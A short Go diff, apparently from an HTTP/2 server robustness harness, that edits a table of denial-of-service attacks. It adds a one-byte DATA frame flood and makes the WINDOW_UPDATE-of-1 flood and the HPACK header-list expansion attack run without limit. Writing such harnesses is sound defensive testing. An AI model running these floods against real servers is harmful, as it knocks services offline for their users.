@@ -97,18 +97,22 @@ var attacks = []attack{
 		_ = c.HeadersFrame(1, rawRequest(), true)
 		until(c, forEver, func(int) error { return c.RawFrame(http2.FrameRSTStream, 0, 1, []byte{0, 0, 0, 8}) })
 	}},
-	{name: "WINDOW_UPDATE of 1", large: 1 << 20, do: func(c *rawh2.Conn) {
+	{name: "DATA of one byte", ended: true, do: func(c *rawh2.Conn) {
+		_ = c.HeadersFrame(1, rawRequest(), false)
+		until(c, 1<<15, func(int) error { return c.RawFrame(http2.FrameData, 0, 1, []byte{0}) })
+	}},
+	{name: "WINDOW_UPDATE of 1", large: 1 << 20, ended: true, do: func(c *rawh2.Conn) {
 		_ = c.HeadersFrame(1, rawRequest(), true)
-		until(c, 1<<13, func(int) error { _ = c.WindowUpdate(1, 1); return c.WindowUpdate(0, 1) })
+		until(c, forEver, func(int) error { _ = c.WindowUpdate(1, 1); return c.WindowUpdate(0, 1) })
 	}, with: rawh2.Options{ManualWindow: true, Settings: []http2.Setting{{ID: http2.SettingInitialWindowSize, Val: 0}}}},
-	{name: "a header list that expands", do: func(c *rawh2.Conn) {
+	{name: "a header list that expands", ended: true, do: func(c *rawh2.Conn) {
 		long := rawh2.F("a", string(make([]byte, 4000)))
 		until(c, 1, func(int) error { return c.HeadersFrame(1, rawRequest(long), true) })
 		block := make([]byte, maxFrameSize)
 		for i := range block {
 			block[i] = 0x80 | 62 // the last entry of the table
 		}
-		until(c, 50, func(i int) error {
+		until(c, forEver, func(i int) error {
 			return c.RawFrame(http2.FrameHeaders, http2.FlagHeadersEndHeaders|http2.FlagHeadersEndStream, uint32(2*i+3), block)
 		})
 	}},
